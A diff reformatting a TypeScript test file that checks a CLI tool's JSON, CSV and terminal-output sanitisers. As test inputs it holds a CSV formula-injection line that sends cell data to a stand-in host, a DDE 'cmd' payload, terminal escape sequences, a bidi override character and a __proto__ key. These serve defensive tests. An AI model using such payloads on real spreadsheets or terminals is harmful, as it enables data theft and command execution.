@@ -2,7 +2,14 @@ import { describe, expect, it } from 'vitest';
 import fc from 'fast-check';
 import { parse as parseCsv } from 'csv-parse/sync';
 import { csvCell, csvLine } from '../../src/core/output/csv.js';
-import { formatAmount, machineTextForTerminal, oneLine, printable, printableDeep, terminalJson } from '../../src/core/output/format.js';
+import {
+  formatAmount,
+  machineTextForTerminal,
+  oneLine,
+  printable,
+  printableDeep,
+  terminalJson,
+} from '../../src/core/output/format.js';
 import { formatTimestamp } from '../../src/core/output/time.js';
 import { prettyJson, reindentJson } from '../../src/core/output/json.js';
 import { colorEnabled } from '../../src/core/io.js';
@@ -18,14 +25,19 @@ describe('reindentJson', () => {
   });
 
   it('keeps numbers and strings exactly as received', () => {
-    const raw = '{"amount":125000.50,"big":12345678901234567890,"s":"a \\"quoted\\" {x}, [y]","e":[],"o":{}}';
-    expect(reindentJson(raw)).toBe('{\n  "amount": 125000.50,\n  "big": 12345678901234567890,\n  "s": "a \\"quoted\\" {x}, [y]",\n  "e": [],\n  "o": {}\n}');
+    const raw =
+      '{"amount":125000.50,"big":12345678901234567890,"s":"a \\"quoted\\" {x}, [y]","e":[],"o":{}}';
+    expect(reindentJson(raw)).toBe(
+      '{\n  "amount": 125000.50,\n  "big": 12345678901234567890,\n  "s": "a \\"quoted\\" {x}, [y]",\n  "e": [],\n  "o": {}\n}',
+    );
   });
 });
 
 describe('csvLine', () => {
   it('quotes only what RFC 4180 requires and ends with CRLF', () => {
-    expect(csvLine(['a', 'b,c', 'say "hi"', 'two\nlines', ''])).toBe('a,"b,c","say ""hi""","two\nlines",\r\n');
+    expect(csvLine(['a', 'b,c', 'say "hi"', 'two\nlines', ''])).toBe(
+      'a,"b,c","say ""hi""","two\nlines",\r\n',
+    );
   });
 });
 
@@ -37,7 +49,9 @@ describe('a CSV cell a spreadsheet would run as a formula', () => {
   const read = (field: string) => parseCsv(field + '\r\n', { relax_quotes: true })[0]![0]!;
 
   it("is written with a ' in front: =, +, -, @, tab and carriage return", () => {
-    expect(csvCell('=HYPERLINK("http://x.test/?"&A1,"Refund")')).toBe(`"'=HYPERLINK(""http://x.test/?""&A1,""Refund"")"`);
+    expect(csvCell('=HYPERLINK("http://x.test/?"&A1,"Refund")')).toBe(
+      `"'=HYPERLINK(""http://x.test/?""&A1,""Refund"")"`,
+    );
     expect(csvCell("-2+3+cmd|' /C calc'!A0")).toBe("'-2+3+cmd|' /C calc'!A0");
     expect(csvCell('+977 1 4411111')).toBe("'+977 1 4411111");
     expect(csvCell('@SUM(A1:A9)')).toBe("'@SUM(A1:A9)");
@@ -77,7 +91,9 @@ describe('a CSV cell a spreadsheet would run as a formula', () => {
   it("reads back as text no spreadsheet runs: the value, with a ' in front where it would have run (property)", () => {
     const text = fc.oneof(
       fc.string(),
-      fc.tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r'), fc.string()).map(([first, rest]) => first + rest),
+      fc
+        .tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r'), fc.string())
+        .map(([first, rest]) => first + rest),
       fc.double().map(String),
     );
     fc.assert(
@@ -116,13 +132,23 @@ describe('formatting for people', () => {
   it('makes every string of a reply printable, keys too, and copies only what it changes', () => {
     const clean = { data: [{ id: 'a', n: 1, tags: ['x'] }], meta: { ok: true } };
     expect(printableDeep(clean)).toBe(clean);
-    const reply = { data: [{ id: 'a' }, { id: 'b\u001b[2J', n: null }], meta: { ok: true }, ['k\u202e']: 1 };
+    const reply = {
+      data: [{ id: 'a' }, { id: 'b\u001b[2J', n: null }],
+      meta: { ok: true },
+      ['k\u202e']: 1,
+    };
     const shown = printableDeep(reply);
-    expect(shown).toEqual({ data: [{ id: 'a' }, { id: 'b[2J', n: null }], meta: { ok: true }, k: 1 });
+    expect(shown).toEqual({
+      data: [{ id: 'a' }, { id: 'b[2J', n: null }],
+      meta: { ok: true },
+      k: 1,
+    });
     expect(shown.data[0]).toBe(reply.data[0]);
     expect(shown.meta).toBe(reply.meta);
     expect(reply.data[1]!.id).toBe('b\u001b[2J');
-    const proto = printableDeep(JSON.parse('{"__proto__":{"x":1},"y":"\\u0007"}') as Record<string, unknown>);
+    const proto = printableDeep(
+      JSON.parse('{"__proto__":{"x":1},"y":"\\u0007"}') as Record<string, unknown>,
+    );
     expect(Object.keys(proto)).toEqual(['__proto__', 'y']);
     expect(Object.getPrototypeOf(proto)).toBe(Object.prototype);
   });
